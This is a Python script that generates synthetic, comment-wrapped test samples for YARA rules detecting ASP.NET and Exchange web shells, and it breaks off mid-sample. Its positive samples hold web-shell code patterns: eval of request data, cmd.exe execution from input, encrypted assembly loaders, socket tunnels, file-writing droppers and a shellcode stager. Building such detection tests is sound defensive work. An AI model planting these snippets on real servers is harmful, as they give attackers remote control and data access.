#!/usr/bin/env python3
"""Writes the positive and negative samples of the built-in YARA rules under
Samples/rules/yara/<rule>/{positive,negative}/ (DetectionTests/YaraRuleSampleTests reads them).

Every sample is synthetic and inert: server code sits inside an ASP.NET server-side comment
(<%-- ... --%>), which IIS discards before compiling; the compiled-page samples are byte strings
shaped like an App_Web_*.dll's strings, not programs. Written for the rule's general trait, each
negative is a near miss that must stay silent. Run from the repository root.
"""
import os
import shutil

def der_request(subject: str) -> bytes:
    """Bytes shaped like a DER PKCS#10 request (SEQUENCE, long form) whose subject CN is `subject`: not a valid request."""
    cn = subject.encode()
    body = b"\x30\x03\x02\x01\x00" + b"\x0c" + bytes([0x82, len(cn) >> 8, len(cn) & 0xFF]) + cn + bytes(range(64))
    return b"\x30\x82" + bytes([len(body) >> 8, len(body) & 0xFF]) + body


DER_REQUEST_WITH_SCRIPT = der_request(
    '<%-- EXTRIAGE SYNTHETIC SAMPLE - inert --%><script language="JScript" runat="server">function Page_Load(){}</script>')
DER_REQUEST_PLAIN = der_request("mail.corp.example")

ROOT = os.path.join("Samples", "rules", "yara")
HEAD = "<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.\n"
TAIL = "\n--%>\n"


def page(body: str) -> bytes:
    return (HEAD + body + TAIL).encode()


def utf16(body: str) -> bytes:
    return b"\xff\xfe" + (HEAD + body + TAIL).encode("utf-16-le")


def pe(ascii_names, wide_strings, size=12 * 1024) -> bytes:
    """Bytes shaped like a small .NET PE: MZ header, ASCII metadata names, UTF-16LE user strings."""
    data = bytearray(b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode.\r\n")
    data += b"PE\x00\x00" + b"\x00" * 64
    data += b"\x00".join(name.encode() for name in ascii_names) + b"\x00"
    for text in wide_strings:
        data += text.encode("utf-16-le") + b"\x00\x00"
    data += b"\x00" * max(0, size - len(data))
    return bytes(data)


SAMPLES = {
    "ChinaChopper_Eval_Request": {
        "positive": {
            "jscript-item.aspx": page('<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>'),
            "jscript-form.aspx": page('<%@ Page Language="Jscript" Debug=false%>\n<% eval( Request.Form["k"] , \'unsafe\' ); %>'),
            "vbscript.asp": page('<%If Request("p")<>"" Then Execute(Request("p"))%>'),
            "obfuscated.aspx": page('<%@ Page Language="Jscript"%><%var _0x1=["x"];eval(Request[_0x1a2b[0]],"un"+"safe");%>'),
            "comment-padded.aspx": page('<%@ Page Language="Jscript"%><%eval (/*-x-*/Request.Item["q"]/*-x-*/,/*-*/"u"+"n"+"s"+"a"+"f"+"e");%>'),
            "utf16.aspx": utf16('<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>'),
        },
        "negative": {
            "client-eval.aspx": page('<%@ Page Language="C#"%><script>var x = eval("(" + json + ")");</script><% Response.Write(Request["q"]); %>'),
            "unsafe-word.aspx": page('<%@ Page Language="C#"%><p>Do not use unsafe code; eval is evil.</p>'),
        },
    },
    "ChinaChopper_Small_JScript_Page": {
        "positive": {
            "tiny.aspx": page('<%@ Page Language="Jscript"%><%var c=Request.Form("x");eval(c);%>'),
        },
        "negative": {
            "tiny-csharp.aspx": page('<%@ Page Language="C#"%><%Response.Write(Request.Form["x"]);%>'),
        },
    },
    "Exchange_OAB_Dump_Script_In_Url": {
        "positive": {
            "dump.aspx": page("Name                            : OAB (Default Web Site)\n"
                              "ExtendedProtectionTokenChecking : None\n"
                              "InternalUrl                     : https://mail.example.test/OAB\n"
                              "InternalAuthenticationMethods   : {WindowsIntegrated}\n"
                              'ExternalUrl                     : http://x/<script language="JScript" runat="server">function Page_Load(){eval(Request["a"],"unsafe");}</script>\n'),
            "cisa-variant.aspx": page("OfflineAddressBooks : \\Default Offline Address Book\n"
                                      "ExternalUrl    : http://g/#<%Response.Write(1)%>\n"),
        },
        "negative": {
            "clean-dump.txt": b"Name : OAB (Default Web Site)\nExtendedProtectionTokenChecking : None\nInternalUrl : https://mail.example.test/OAB\n"
                              b"InternalAuthenticationMethods : {WindowsIntegrated}\nExternalUrl : https://mail.example.test/OAB\n",
        },
    },
    "AspNet_Request_To_Process": {
        "positive": {
            "cmd.aspx": page('<%@ Page Language="C#"%><%@ Import Namespace="System.Diagnostics"%>\n<script runat="server">\n'
                             'void Run(object s, EventArgs e){ var p = new ProcessStartInfo("cmd.exe", "/c " + txtCmd.Text); '
                             'p.RedirectStandardOutput = true; p.UseShellExecute = false; Response.Write(Process.Start(p).StandardOutput.ReadToEnd()); }\n</script>'),
            "wscript.asp": page('<% Set sh = CreateObject("WScript.Shell") : Set ex = sh.Exec("cmd /c " & Request.Form("c")) : Response.Write ex.StdOut.ReadAll %>'),
        },
        "negative": {
            "no-input.aspx": page('<%@ Page Language="C#"%><% System.Diagnostics.Process.Start("notepad.exe"); %>'),
            "input-no-process.aspx": page('<%@ Page Language="C#"%><% Response.Write(Server.HtmlEncode(Request.QueryString["name"])); %>'),
        },
    },
    "AspNet_Eval_Of_Request_Data": {
        "positive": {
            "jscript.aspx": page('<%@ Page Language="JScript"%><% var code = Request.Params["c"]; var r = eval(code, "unsafe"); Response.Write(r); %>'),
            "codedom.aspx": page('<%@ Page Language="C#"%><% var p = new Microsoft.CSharp.CSharpCodeProvider(); '
                                 'var r = p.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), Request.Form["src"]); %>'),
        },
        "negative": {
            "jscript-no-eval.aspx": page('<%@ Page Language="JScript"%><% Response.Write(Request.Params["c"]); %>'),
        },
    },
    "AspNet_Assembly_Load_Of_Decoded_Bytes": {
        "positive": {
            "aes-loader.aspx": page('<%@ Page Language="C#"%><%@ Import Namespace="System.Reflection"%><% byte[] k = Encoding.Default.GetBytes(Session[0] + ""); '
                                    'byte[] c = Request.BinaryRead(Request.ContentLength); '
                                    'Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this); %>'),
            "reflective.asmx": page('<%@ WebService Language="C#" Class="S"%>\npublic class S : WebService { [WebMethod] public string X(string d) { '
                                    'byte[] b = Convert.FromBase64String(d); var a = (Assembly)typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { b }); return ""; } }'),
        },
        "negative": {
            "load-by-name.aspx": page('<%@ Page Language="C#"%><% var a = System.Reflection.Assembly.Load("System.Web"); Response.Write(a.FullName); %>'),
        },
    },
    "AspNet_Reflection_With_Request_Input": {
        "positive": {
            "invoke.aspx": page('<%@ Page Language="C#"%><% var t = Type.GetType(Request.Form["t"]); '
                                'var o = Activator.CreateInstance(t); t.GetMethod(Request.Form["m"]).Invoke(o, null); %>'),
        },
        "negative": {
            "fixed-type.aspx": page('<%@ Page Language="C#"%><% var o = Activator.CreateInstance(typeof(System.Text.StringBuilder)); Response.Write(Request.QueryString["x"]); %>'),
        },
    },
    "AspNet_Decoded_Payload_Executed": {
        "positive": {
            "chopper-b64.aspx": page('<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("UmVzcG9uc2UuV3JpdGUoMSk=")),"unsafe");%>'),
            "xor.aspx": page('<%@ Page Language="C#"%><% byte[] d = Convert.FromBase64String(Request.Form["d"]); for (int i = 0; i < d.Length; i++) d[i] = (byte)(d[i] ^ key[i % key.Length]); '
                             'System.Reflection.Assembly.Load(d); %>'),
        },
        "negative": {
            "decode-only.aspx": page('<%@ Page Language="C#"%><% var img = Convert.FromBase64String(Request.Form["img"]); Response.BinaryWrite(img); %>'),
        },
    },
    "AspNet_File_Manager": {
        "positive": {
            "browser.aspx": page('<%@ Page Language="C#"%><%@ Import Namespace="System.IO"%><% string p = Request.QueryString["p"]; '
                                 'foreach (var d in Environment.GetLogicalDrives()) Response.Write(d); foreach (var f in new DirectoryInfo(p).GetFiles()) Response.Write(f.Name); '
                                 'if (Request["dl"] != null) Response.WriteFile(Request["dl"]); %>'),
            "manager.aspx": page('<%@ Page Language="C#"%><% var dir = Request.Form["dir"]; var subs = Directory.GetDirectories(dir); var files = Directory.GetFiles(dir); '
                                 'File.Delete(Request.Form["del"]); File.Move(Request.Form["a"], Request.Form["b"]); File.SetLastWriteTime(Request.Form["t"], DateTime.Parse("2019-01-01")); %>'),
        },
        "negative": {
            "gallery.aspx": page('<%@ Page Language="C#"%><% foreach (var f in Directory.GetFiles(Server.MapPath("~/images"))) Response.Write(Path.GetFileName(f)); '
                                 'Response.Write(Request.QueryString["page"]); %>'),
        },
    },
    "AspNet_SQL_Console": {
        "positive": {
            "console.aspx": page('<%@ Page Language="C#"%><script runat="server">void Go(object s, EventArgs e) { var c = new SqlConnection(txtConn.Text); '
                                 'var cmd = new SqlCommand(txtSql.Text, c); c.Open(); grid.DataSource = cmd.ExecuteReader(); grid.DataBind(); }</script>'),
            "dump.aspx": page('<%@ Page Language="C#"%><% string cs = "server=" + host + ";uid=" + user + ";pwd=" + pass; var da = new SqlDataAdapter("select * from " + table, cs); %>'),
        },
        "negative": {
            "report.aspx": page('<%@ Page Language="C#"%><% var c = new SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString); '
                                'var cmd = new SqlCommand("select name from products where id = @id", c); cmd.Parameters.AddWithValue("@id", Request.QueryString["id"]); c.Open(); cmd.ExecuteReader(); %>'),
        },
    },
    "AspNet_Request_Written_To_File": {
        "positive": {
            "writer.aspx": page('<%@ Page Language="C#"%><% using (var w = new System.IO.StreamWriter(Request.Form["f"])) { w.Write(Request.Form["c"]); } %>'),
            "upload.aspx": page('<%@ Page Language="C#"%><% if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath(Request["dir"]) + Request.Files[0].FileName); %>'),
            "beside-self.aspx": page('<%@ Page Language="C#"%><% HttpPostedFile f = Request.Files[0]; var here = new FileInfo(Request.PhysicalPath).DirectoryName; '
                                     'using (var s = new FileStream(Path.Combine(here, Path.GetFileName(f.FileName)), FileMode.Create)) f.InputStream.CopyTo(s); %>'),
        },
        "negative": {
            "avatar.aspx": page('<%@ Page Language="C#"%><% var f = Request.Files[0]; var id = Guid.NewGuid(); f.SaveAs(Server.MapPath("~/App_Data/avatars/") + id + ".png"); %>'),
        },
    },
    "AspNet_Socket_Tunnel": {
        "positive": {
            "tunnel.aspx": page('<%@ Page Language="C#"%><%@ Import Namespace="System.Net.Sockets"%><% string cmd = Request.Headers.Get("X-CMD"); '
                                'if (cmd == "CONNECT") { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); '
                                's.Connect(Request.Headers.Get("X-TARGET"), int.Parse(Request.Headers.Get("X-PORT"))); } '
                                'else if (cmd == "FORWARD") { byte[] b = Convert.FromBase64String(Request.Form["d"]); } %>'),
        },
        "negative": {
            "health.aspx": page('<%@ Page Language="C#"%><%@ Import Namespace="System.Net.Sockets"%><% using (var c = new TcpClient()) { c.Connect("localhost", 25); } Response.Write("ok"); %>'),
        },
    },
    "AspNet_Shell_Traits_Several": {
        "positive": {
            "traits.aspx": page('<%@ Page Language="C#"%><% var b = Convert.FromBase64String(x); Response.BinaryWrite(b); File.WriteAllBytes(p, b); %>'),
        },
        "negative": {
            "two-traits.aspx": page('<%@ Page Language="C#"%><% var b = Convert.FromBase64String(x); Response.BinaryWrite(b); %>'),
        },
    },
    "AspNet_Shell_Trait_Pair": {
        "positive": {
            "pair.aspx": page('<%@ Page Language="C#"%><% var b = Convert.FromBase64String(x); Response.BinaryWrite(b); %>'),
        },
        "negative": {
            "one-trait.aspx": page('<%@ Page Language="C#"%><% Response.BinaryWrite(data); %>'),
            "client-script.js": b'var b = atob(x); eval(b); var p = "powershell";\n',
        },
    },
    "AspNet_Raw_Socket_Sniffer": {
        "positive": {
            "sniff.aspx": page('<%@ Page Language="C#"%><% var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP); '
                               's.IOControl(IOControlCode.ReceiveAll, new byte[] { 1, 0, 0, 0 }, null); %>'),
        },
        "negative": {
            "stream-socket.aspx": page('<%@ Page Language="C#"%><% var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); %>'),
        },
    },
    "AspNet_Server_Recon": {
        "positive": {
            "registry.aspx": page('<%@ Page Language="C#"%><% RegistryKey k = Registry.LocalMachine; foreach (var n in k.OpenSubKey("SOFTWARE").GetSubKeyNames()) Response.Write(n); %>'),
            "writable.aspx": page('<%@ Page Language="C#"%><% void Scan(DirectoryInfo d) { foreach (var s in d.GetDirectories()) { try { File.Create(s.FullName + "\\\\t").Close(); '
                                  'File.Delete(s.FullName + "\\\\t"); Response.Write(s.FullName); } catch {} Scan(s); } } %>'),
        },
        "negative": {
            "settings.aspx": page('<%@ Page Language="C#"%><% var v = Registry.GetValue("HKEY_LOCAL_MACHINE\\\\SOFTWARE\\\\Example", "Theme", "blue"); %>'),
        },
    },
    "Compiled_AppWeb_Shell_In_DropZone": {
        "positive": {
            "App_Web_q1w2e3r4.dll": pe(["App_Web_q1w2e3r4", "get_Request", "get_Item", "JScriptEvaluate", "Microsoft.JScript"],
                                       ["~/aspnet_client/system_web/x1y2z3.aspx", "unsafe"]),
            "App_Web_files.dll": pe(["App_Web_files", "get_Request", "get_Files", "get_Count", "get_Item", "get_Server", "SaveAs"],
                                    ["~/auth/up.aspx"]),
        },
        "negative": {
            "App_Web_logon.dll": pe(["App_Web_logon", "get_Request", "get_Item", "Page_Load"], ["~/auth/logon.aspx"]),
        },
    },
    "Compiled_HAFNIUM_OAB_Shell": {
        "positive": {
            "App_Web_oabdump.dll": pe(["App_Web_oabdump", "Page_Load", "get_Request"], ["ExternalUrl                     : http://f/"]),
        },
        "negative": {
            "App_Web_oab.dll": pe(["App_Web_oab", "Page_Load"], ["ExternalUrl : https://mail.example.test/OAB"]),
        },
    },
    "Compiled_AppWeb_JScript_Eval": {
        "positive": {
            "App_Web_abcd1234.dll": pe(["App_Web_abcd1234", "get_Request", "get_Item", "JScriptEvaluate"], ["~/images/x.aspx"]),
        },
        "negative": {
            "App_Web_clean.dll": pe(["App_Web_clean", "get_Request", "Page_Load", "get_Item"], ["~/default.aspx"]),
        },
    },
    "Compiled_AppWeb_Process_From_Request": {
        "positive": {
            "App_Web_cmd.dll": pe(["App_Web_cmd", "get_Request", "ProcessStartInfo", "set_RedirectStandardOutput", "Start"], ["cmd.exe", "/c "]),
        },
        "negative": {
            "App_Web_report.dll": pe(["App_Web_report", "get_Request", "Page_Load"], ["report"]),
        },
    },
    "Compiled_Record_For_DropZone_Page": {
        "positive": {
            "discover.aspx.cdcab7d2.compiled": b'<?xml version="1.0" encoding="utf-8"?>\r\n<preserve resultType="3" virtualPath="/aspnet_client/discover.aspx" hash="16f4b5a35" filehash="cfde5fbd4b3a83fe" flags="110000" assembly="App_Web_k4p2x9qz" type="ASP.aspnet_client_discover_aspx">\r\n    <filedeps>\r\n        <filedep name="/aspnet_client/discover.aspx" />\r\n    </filedeps>\r\n</preserve>\r\n',
            "erroree.aspx.1a2b3c4d.compiled": b'<?xml version="1.0" encoding="utf-8"?>\r\n<preserve resultType="3" virtualPath="/owa/auth/errorEE.aspx" hash="1" filehash="2" flags="110000" assembly="App_Web_zz11yy22" type="ASP.owa_auth_erroree_aspx" />\r\n',
        },
        "negative": {
            "logon.aspx.cdcab7d2.compiled": b'<?xml version="1.0" encoding="utf-8"?>\r\n<preserve resultType="3" virtualPath="/owa/auth/logon.aspx" hash="1" filehash="2" flags="110000" assembly="App_Web_aa11bb22" type="ASP.owa_auth_logon_aspx" />\r\n',
            "timeoutlogoff.aspx.99aa88bb.compiled": b'<?xml version="1.0" encoding="utf-8"?>\r\n<preserve resultType="3" virtualPath="/ecp/auth/TimeoutLogoff.aspx" hash="1" filehash="2" flags="110000" assembly="App_Web_cc33dd44" type="ASP.ecp_auth_timeoutlogoff_aspx" />\r\n',
        },
    },
    "Exchange_PST_Shaped_Page": {
        "positive": {
            "mailbox-export.aspx": b"!BDN" + bytes(range(256)) * 8,
        },
        "negative": {
            "archive.pst": b"!BDN" + bytes(range(256)) * 8,
        },
    },
    "Exchange_CertRequest_Shaped_Page": {
        "positive": {
            "certrequest.aspx": DER_REQUEST_WITH_SCRIPT,
        },
        "negative": {
            "mail.req": DER_REQUEST_WITH_SCRIPT,
            "plain-request.aspx": DER_REQUEST_PLAIN,
        },
    },
    "Exchange_SportsBall_Shell": {
        "positive": {
            "sportsball.aspx": page('<%@ Page Language="C#"%><% var c = Request.Cookies["fqrspt"]; if (c != null) { var cmd = c.Value; } %>'),
        },
        "negative": {
            "cookie.aspx": page('<%@ Page Language="C#"%><% var c = Request.Cookies["session"]; %>'),
        },
    },
    "Exchange_SecChecker_EDR_Probe": {
        "positive": {
            "secchecker.aspx": b'<%@ Page Language="C#"%><% Response.Write(System.IO.File.Exists("c:\\program files (x86)\\fireeye\\xagt.exe") + "|" + System.IO.File.Exists("c:\\windows\\system32\\csfalconservice.exe")); %><%-- EXTRIAGE SYNTHETIC SAMPLE --%>\n',
        },
        "negative": {
            "inventory.htm": b"<html><body>Agents: fireeye\\xagt.exe, csfalconservice.exe</body></html>\n",
        },
    },
}



# The later waves (issue 16): family traits, endpoints, memory shells, other execution paths.
SAMPLES.update({
    "WebShell_Godzilla_Session_Payload": {
        "positive": {
            "session-payload.aspx": page('<%@ Page Language="C#"%><% string k = "0123456789abcdef", pw = "p"; '
                                        'string h = BitConverter.ToString(new MD5CryptoServiceProvider().ComputeHash(Encoding.Default.GetBytes(pw + k))).Replace("-", ""); '
                                        'byte[] d = Decode(Convert.FromBase64String(Context.Request[pw])); '
                                        'if (Context.Session["st"] == null) { Context.Session["st"] = (Assembly)typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { d }); } '
                                        'else { object o = ((Assembly)Context.Session["st"]).CreateInstance("M"); Response.Write(h.Substring(0, 16)); Response.Write(Reply(o)); Response.Write(h.Substring(16)); } %>'),
            "application-payload.ashx": page('<%@ WebHandler Language="C#" Class="H"%>\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) { '
                                             'byte[] d = X(c.Request.BinaryRead(c.Request.ContentLength)); if (c.Application["a"] == null) c.Application["a"] = AppDomain.CurrentDomain.Load(d); '
                                             'else ((System.Reflection.Assembly)c.Application["a"]).CreateInstance("M").Equals(c); } }'),
        },
        "negative": {
            "session-cache.aspx": page('<%@ Page Language="C#"%><% var asm = System.Reflection.Assembly.Load("App.Reports"); Session["reportType"] = asm.GetType("App.Reports.Daily").FullName; '
                                       'string h = BitConverter.ToString(MD5.Create().ComputeHash(Encoding.UTF8.GetBytes(User.Identity.Name))); Response.Write(h.Substring(0, 16)); %>'),
        },
    },
    "WebShell_Behinder_Session_Key_Loader": {
        "positive": {
            "aes-session-key.aspx": page('<%@ Page Language="C#"%><% Session.Add("q", "0a1b2c3d4e5f6a7b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""), c = Request.BinaryRead(Request.ContentLength); '
                                        'Assembly.Load(new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("Q").Equals(this); %>'),
            "vb-session-key.aspx": page('<%@ Page Language="VB"%><% Session.Add("k", "0a1b2c3d4e5f6a7b") : Dim k() As Byte = Encoding.Default.GetBytes(Session(0) & "") : '
                                        'Dim c() As Byte = Request.BinaryRead(Request.ContentLength) : '
                                        'System.Reflection.Assembly.Load(New RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("Q").Equals(Me) %>'),
            "xor-session-key.aspx": page('<%@ Page Language="C#"%><% Session["z"] = "f0e1d2c3b4a59687"; byte[] k = Encoding.Default.GetBytes(Session["z"].ToString()); byte[] c = new byte[Request.InputStream.Length]; '
                                         'Request.InputStream.Read(c, 0, c.Length); for (int i = 0; i < c.Length; i++) c[i] = (byte)(c[i] ^ k[i + 1 & 15]); Assembly.Load(c).CreateInstance("Q").Equals(this); %>'),
        },
        "negative": {
            "session-token.aspx": page('<%@ Page Language="C#"%><% Session["csrf"] = "0a1b2c3d4e5f6a7b"; byte[] k = Encoding.UTF8.GetBytes(Session["csrf"].ToString()); byte[] c = Request.BinaryRead(Request.ContentLength); '
                                       'var json = Encoding.UTF8.GetString(new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)); Response.Write(json.Length); %>'),
        },
    },
    "WebShell_Module_Invocation_Through_Equals": {
        "positive": {
            "equals-this.aspx": page('<%@ Page Language="C#"%><% if (Request.Form["m"] != null) System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["m"])).CreateInstance("Mod").Equals(this); %>'),
            "equals-context.asmx": page('<%@ WebService Language="C#" Class="S"%>\npublic class S : WebService { [WebMethod(EnableSession = true)] public void R() { '
                                        'object o = AppDomain.CurrentDomain.Load(Unwrap(Context.Request.BinaryRead(Context.Request.ContentLength))).CreateInstance("Mod"); o.Equals(Context); } }'),
        },
        "negative": {
            "plugin-equals.aspx": page('<%@ Page Language="C#"%><% var a = System.Reflection.Assembly.Load("App.Plugins"); var p = a.CreateInstance("App.Plugins.Default"); '
                                       'Response.Write(p.Equals(Session["last"])); %>'),
        },
    },
    "WebShell_Decrypted_Assembly_Run_By_Reflection": {
        "positive": {
            "xor-run.aspx": page('<%@ Page Language="C#"%><% string r = Request.Form["data"]; byte[] d = Convert.FromBase64String(r), k = Convert.FromBase64String(Secret); '
                                 'for (int i = 0; i < d.Length; i++) d[i] = (byte)(d[i] ^ k[i % k.Length]); Assembly a = Assembly.Load(d); object o = a.CreateInstance("Runner"); '
                                 'MethodInfo m = o.GetType().GetMethod("Run"); Response.Write(m.Invoke(o, new object[] { r })); %>'),
            "rc4-run.aspx": page('<%@ Page Language="C#"%><% byte[] d = Rc4(Key, Hex(Request.Form["v"])); /* j = (j + s[i] + key[i % key.Length]) % 256 */ '
                                 'System.Reflection.Assembly.Load(d).GetType("P").GetMethod("Go").Invoke(null, new object[] { Context }); %>'),
        },
        "negative": {
            "plugin-run.aspx": page('<%@ Page Language="C#"%><% var a = System.Reflection.Assembly.Load(System.IO.File.ReadAllBytes(Server.MapPath("~/bin/plugins/report.dll"))); '
                                    'a.GetType("Report").GetMethod("Render").Invoke(null, new object[] { Request.QueryString["id"] }); %>'),
        },
    },
    "WebShell_AntSword_Decoded_Eval": {
        "positive": {
            "base64-eval.aspx": page('<%@ Page Language="Jscript"%><% eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(Request.Item["q"])), "unsafe"); %>'),
            "hex-eval.aspx": page('<script runat="server" language="JScript">function h(s){var r="";for(var i=0;i<s.length;i+=2)r+=String.fromCharCode(parseInt(s.substr(i,2),16));return r;}'
                                  'function Page_Load(){var p=Request.Form("q");if(p!=null)eval(h(p));}</script>'),
            "split-eval.aspx": page('<%@ Page Language="JScript"%><% var f = this["ev" + "al"]; f(Request.Form["q"]); %>'),
        },
        "negative": {
            "client-decode.aspx": page('<%@ Page Language="C#"%><script language="javascript">var cfg = eval(atob(document.body.dataset.cfg));</script>'
                                       '<% Response.Write(Server.HtmlEncode(Request.QueryString["q"])); %>'),
        },
    },
    "WebShell_Tunnel_Socket_In_State": {
        "positive": {
            "session-socket.aspx": page('<%@ Page Language="C#"%><% string c = Request.QueryString["c"]; if (c == "open") { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); '
                                        's.Connect(Request.QueryString["h"], int.Parse(Request.QueryString["p"])); Session.Add("s", s); } else { Socket s = (Socket)Session["s"]; '
                                        'byte[] b = new byte[4096]; int n = s.Receive(b); Response.BinaryWrite(b); } %>'),
            "application-client.aspx": page('<%@ Page Language="C#"%><% string id = Request.Headers["X-Id"]; TcpClient client = Application[id] as TcpClient; '
                                            'if (client == null) { client = new TcpClient(); client.Connect(Request.Headers["X-Host"], 3389); Application[id] = client; } '
                                            'Request.InputStream.CopyTo(client.GetStream()); %>'),
        },
        "negative": {
            "smtp-probe.aspx": page('<%@ Page Language="C#"%><% using (var c = new TcpClient()) { c.Connect(Request.QueryString["host"] ?? "smtp.local", 25); Response.Write("ok"); } '
                                    'Session["lastProbe"] = DateTime.UtcNow; %>'),
        },
    },
    "AspNet_WebService_Command_Spy": {
        "positive": {
            "cmd.asmx": page('<%@ WebService Language="C#" Class="S"%>\npublic class S : WebService { [WebMethod] public string Run(string c) { '
                             'var i = new ProcessStartInfo("cmd.exe", "/c " + c) { RedirectStandardOutput = true, UseShellExecute = false }; return Process.Start(i).StandardOutput.ReadToEnd(); } }'),
            "exec.soap": page('<%@ WebService Language="C#" Class="S"%>\npublic class S : WebService { [WebMethod] public string E(string f, string a) { '
                              'var p = new Process(); p.StartInfo.FileName = f; p.StartInfo.Arguments = a; p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; '
                              'p.Start(); return p.StandardOutput.ReadToEnd(); } }'),
        },
        "negative": {
            "pdf-export.asmx": page('<%@ WebService Language="C#" Class="R"%>\npublic class R : WebService { [WebMethod] public string Export(int id) { '
                                    'var psi = new ProcessStartInfo(Server.MapPath("~/bin/wkhtmltopdf.exe"), "report.aspx?id=" + id) { RedirectStandardOutput = true }; '
                                    'using (var p = Process.Start(psi)) p.WaitForExit(); return id + ".pdf"; } }'),
        },
    },
    "AspNet_WebService_File_Manager": {
        "positive": {
            "files.asmx": page('<%@ WebService Language="C#" Class="F"%>\npublic class F : WebService { [WebMethod] public string[] Drives() { return Environment.GetLogicalDrives(); } '
                               '[WebMethod] public string[] Ls(string d) { return Directory.GetFiles(d); } [WebMethod] public void Rm(string f) { File.Delete(f); } }'),
        },
        "negative": {
            "documents.asmx": page('<%@ WebService Language="C#" Class="D"%>\npublic class D : WebService { [WebMethod] public string[] List(string folder) { '
                                   'return Directory.GetFiles(Server.MapPath("~/Documents/" + Path.GetFileName(folder))); } '
                                   '[WebMethod] public void Save(string name, byte[] data) { File.WriteAllBytes(Path.Combine(Server.MapPath("~/Documents"), Path.GetFileName(name)), data); } }'),
        },
    },
    "AspNet_Handler_Writes_Requested_Path": {
        "positive": {
            "writer.ashx": page('<%@ WebHandler Language="C#" Class="W"%>\npublic class W : IHttpHandler { public void ProcessRequest(HttpContext context) { '
                                'string f = context.Request["f"]; using (var w = new StreamWriter(context.Server.MapPath(f))) w.Write(context.Request["c"]); } public bool IsReusable { get { return false; } } }'),
        },
        "negative": {
            "upload.ashx": page('<%@ WebHandler Language="C#" Class="U"%>\npublic class U : IHttpHandler { public void ProcessRequest(HttpContext context) { '
                                'var f = context.Request.Files[0]; string name = Guid.NewGuid().ToString("N") + Path.GetExtension(f.FileName); '
                                'string dir = context.Server.MapPath("~/App_Data/uploads"); f.SaveAs(context.Server.MapPath(dir + name)); } public bool IsReusable { get { return true; } } }'),
        },
    },
    "AspNet_Writes_Script_Page": {
        "positive": {
            "dropper.ashx": page('<%@ WebHandler Language="C#" Class="D"%>\npublic class D : IHttpHandler { public void ProcessRequest(HttpContext x) { '
                                 'using (var w = File.CreateText(x.Server.MapPath("error.aspx"))) w.Write("<%@ Page Language=\\"Jscript\\"%><%eval(Request.Item[\\"e\\"],\\"unsafe\\");%>"); } '
                                 'public bool IsReusable { get { return false; } } }'),
            "asp-dropper.aspx": page('<%@ Page Language="C#"%><% var w = new StreamWriter(Server.MapPath("x.asp")); w.Write("<%execute request(\\"x\\")%>"); w.Close(); %>'),
        },
        "negative": {
            "cms-page.aspx": page('<%@ Page Language="C#"%><% File.WriteAllText(Server.MapPath("~/pages/" + slug + ".aspx"), '
                                  '"<%@ Page Language=\\"C#\\" MasterPageFile=\\"~/Site.master\\" Inherits=\\"Cms.ContentPage\\" %>"); %>'),
        },
    },
    "AspNet_Memory_Shell_Registration": {
        "positive": {
            "vpp.aspx": page('<%@ Page Language="C#"%><script runat="server">public class P : System.Web.Hosting.VirtualPathProvider { '
                             'public override bool FileExists(string v) { return v.EndsWith("/m.aspx") || Previous.FileExists(v); } }</script>'
                             '<% System.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new P()); %>'),
            "internal.aspx": page('<%@ Page Language="C#"%><% typeof(System.Web.Hosting.HostingEnvironment).GetMethod("RegisterVirtualPathProviderInternal", '
                                  'BindingFlags.NonPublic | BindingFlags.Static).Invoke(null, new object[] { provider }); %>'),
            "begin-request.aspx": page('<%@ Page Language="C#"%><% Context.ApplicationInstance.BeginRequest += new EventHandler(Hook); %>'),
        },
        "negative": {
            "Global.asax": page('<%@ Application Language="C#"%><script runat="server">void Application_Start(object s, EventArgs e) { '
                                'System.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new Themes.DbPathProvider()); RouteTable.Routes.MapPageRoute("p", "blog/{s}", "~/Post.aspx"); }</script>'),
        },
    },
    "AspNet_Shellcode_Injection": {
        "positive": {
            "stager.aspx": page('<%@ Page Language="C#"%><script runat="server">[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p); '
                                '[DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr st, IntPtr p, uint f, IntPtr i); '
                                'void Page_Load(object o, EventArgs e) { byte[] b = new byte[2] { 0x90, 0xc3 }; IntPtr m = VirtualAlloc(IntPtr.Zero, (UIntPtr)b.Length, 0x1000, 0x40); '
                                'Marshal.Copy(b, 0, m, b.Length); CreateThread(IntPtr.Zero, UIntPtr.Zero, m, IntPtr.Zero, 0, IntPtr.Zero); }</script>'),
        },
        "negative": {
            "memory-status.aspx": page('<%@ Page Language="C#"%><script runat="server">[DllImport("kernel32")] static extern bool GlobalMemoryStatusEx(ref MEMORYSTATUSEX m); '
